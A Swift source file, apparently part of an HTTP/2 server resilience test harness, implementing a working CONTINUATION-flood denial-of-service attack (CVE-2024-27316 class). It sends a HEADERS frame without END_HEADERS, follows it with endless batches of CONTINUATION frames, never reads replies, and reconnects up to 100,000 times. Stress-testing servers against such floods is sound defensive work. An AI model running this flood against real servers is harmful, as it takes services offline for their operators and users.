import Glibc
import PalisadeEcho

/// `continuation-flood` (CVE-2024-27316 class): a header block that never ends.
///
/// HEADERS without END_HEADERS for a request, then CONTINUATION frames, each full of literal
/// `x-cont` fields, forever, never reading. A server has to hold or at least decode the block
/// until END_HEADERS, and cannot answer the stream before it; the only defence is to give up
/// on the connection (GOAWAY, or close). After a close the attacker reconnects and repeats
/// until the deadline.
struct ContinuationFloodAttack: BlockingAttacker {
    /// CONTINUATION frames per batch given to the socket (~130 KiB).
    private static let framesPerBatch = 8

    /// Floods connection after connection until the deadline (at most 3,000 connections in short mode).
    func attack(_ context: AttackContext) -> AttackReport {
        var report = AttackReport()
        let head = HPACKBlock.request(path: "/\(EchoService.service)/Unary", tls: context.usesTLS).bytes
        // 16 literal fields of 1,000 bytes each: 16,176 bytes, under the 16,384-byte frame limit.
        var fields = HPACKBlock()
        for _ in 0..<16 { fields.literal(name: "x-cont", value: repeatElement(UInt8(ascii: "c"), count: 1_000)) }
        let payload = fields.bytes
        let maxConnections = context.bound(full: 100_000, short: 3_000)
        let maxFramesPerConnection = context.bound(full: 5_000_000, short: 1_000_000)
        var frames = 0
        while !context.isOver, report.connections.count < maxConnections {
            guard let connection = context.openConnection(recordingFailureIn: &report) else { continue }
            var opening: [UInt8] = []
            H2Frames.appendHeaders(stream: 1, fragment: head, endStream: true, endHeaders: false, to: &opening)
            connection.send(opening)
            report.streamsSent += 1
            let end = connection.flood(
                until: context.deadline, maxBatches: maxFramesPerConnection / Self.framesPerBatch,
                reading: false
            ) { batch in
                for _ in 0..<Self.framesPerBatch {
                    H2Frames.append(.continuation, stream: 1, payload: payload, to: &batch)
                }
                frames += Self.framesPerBatch
                return true
            }
            connection.drain()
            report.record(connection, cut: end == .deadline)
            connection.close()
        }
        report.notes.append("\(frames.grouped) CONTINUATION frames sent")
        return report
    }
}
